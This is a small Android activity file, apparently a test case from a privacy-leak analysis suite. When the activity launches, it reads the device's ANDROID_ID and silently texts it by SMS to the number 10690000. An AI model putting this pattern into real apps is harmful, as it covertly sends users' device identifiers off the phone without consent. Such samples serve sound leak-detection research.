package cn.privlens.suite.all_added_afterwards;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;
import android.util.Log;
import java.util.ArrayList;
import java.util.List;

public class Main extends Activity {
    private static List<String> defaults() {
        List<String> lines = new ArrayList<>();
        lines.add("zh");
        lines.add("dark");
        return lines;
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        List<String> lines = defaults();
        List<String> outgoing = new ArrayList<>();
        lines.add(identifier());
        outgoing.addAll(lines);
        for (String line : outgoing) {
            Log.i("suite", "line " + line);
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, lines.get(2), null, null);
    }

    private String identifier() {
        return Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID);
    }
}
